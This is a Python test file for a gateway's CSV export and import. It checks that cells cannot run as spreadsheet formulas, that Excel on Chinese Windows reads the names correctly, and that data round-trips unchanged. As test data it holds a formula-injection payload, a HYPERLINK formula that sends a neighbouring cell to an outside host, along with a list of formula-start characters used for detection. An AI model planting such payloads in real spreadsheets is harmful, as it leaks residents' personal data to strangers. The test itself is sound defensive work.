"""`gateway export` opened in Excel or WPS: no cell runs as a formula, Chinese names read right, and
what the office saves back imports as it was exported."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from gateway.cli import main
from gateway.store.spreadsheet import as_cell, from_cell
from tests.conftest import site_toml, write_csv

FORMULA = '=HYPERLINK("http://x.cn/?"&E2,"详情")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(STARTS)]


def new_site(folder: Path) -> Path:
    folder.mkdir()
    config = folder / "site.toml"
    config.write_text(site_toml(folder / "data"), encoding="utf-8")
    return config


def register(config: Path, sql: str) -> list[tuple[object, ...]]:
    with sqlite3.connect(config.parent / "data" / "gateway.db") as conn:
        return conn.execute(sql).fetchall()


REGISTER = (
    "SELECT ref, building, unit, room, name FROM residents ORDER BY ref",
    "SELECT kind, value FROM credentials ORDER BY value",
    "SELECT zone, number FROM slots ORDER BY number",
)


def test_an_export_opened_in_a_spreadsheet_runs_no_formula_and_imports_back_unchanged(tmp_path: Path) -> None:
    """A resident's name from the office's list, =HYPERLINK(...), ran as a formula when the office
    opened residents.csv in Excel (one click sent the register's next cell to a stranger's site); a
    card number -0A1B2C, a slot -1 or a unit +1 ran as a sum. Each is written as text, and the
    export still imports into a new gateway exactly as it was, a name that starts with an
    apostrophe too."""
    old = new_site(tmp_path / "old")
    files = [
        write_csv(
            tmp_path / "people.csv",
            f'ref,building,unit,room,name\nR1,3栋,2单元,301,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
            "R2,@SUM(1+1),+1,-1,''t Hooft\n",
        ),
        write_csv(tmp_path / "cards.csv", "card,resident_ref\n-0A1B2C,R1\n"),
        write_csv(tmp_path / "slots.csv", "zone,number,resident_ref\nmain,-1,R2\n"),
    ]
    assert main(["import", "-c", str(old), *map(str, files)]) == 0
    assert register(old, REGISTER[0])[1] == ("R2", "@SUM(1+1)", "+1", "-1", "'t Hooft")
    out = tmp_path / "export"
    assert main(["export", "-c", str(old), str(out)]) == 0
    for path in sorted(out.glob("*.csv")):
        assert formula_cells(path.read_text(encoding="utf-8-sig")) == [], path.name
    new = new_site(tmp_path / "new")
    assert main(["import", "-c", str(new), *map(str, sorted(out.glob("*.csv")))]) == 0
    for sql in REGISTER:
        assert register(new, sql) == register(old, sql), sql


def test_an_export_opens_in_excel_on_a_chinese_windows_with_its_names(tmp_path: Path) -> None:
    """README: the office edits these files in Excel, which on a Chinese Windows reads a CSV file
    without a byte-order mark as GBK. The export had none: every name, building and unit showed
    garbled, and a file saved back imported the garbled names over the real ones."""
    config = new_site(tmp_path / "site")
    people = write_csv(tmp_path / "people.csv", "ref,building,unit,name\nR1,3栋,2单元,张三\n")
    assert main(["import", "-c", str(config), str(people)]) == 0
    out = tmp_path / "export"
    assert main(["export", "-c", str(config), str(out)]) == 0
    for path in sorted(out.glob("*.csv")):
        raw = path.read_bytes()
        # How Excel reads it: UTF-8 only with the mark, else the system code page (GBK, cp936).
        assert raw.startswith(b"\xef\xbb\xbf"), path.name
    assert "张三" in (out / "residents.csv").read_bytes()[3:].decode("utf-8")


@given(st.text(max_size=12))
def test_a_cell_reads_back_as_it_was_written_and_never_starts_a_formula(text: str) -> None:
    cell = as_cell(text)
    assert isinstance(cell, str) and not cell.startswith(STARTS)
    assert from_cell(cell) == text
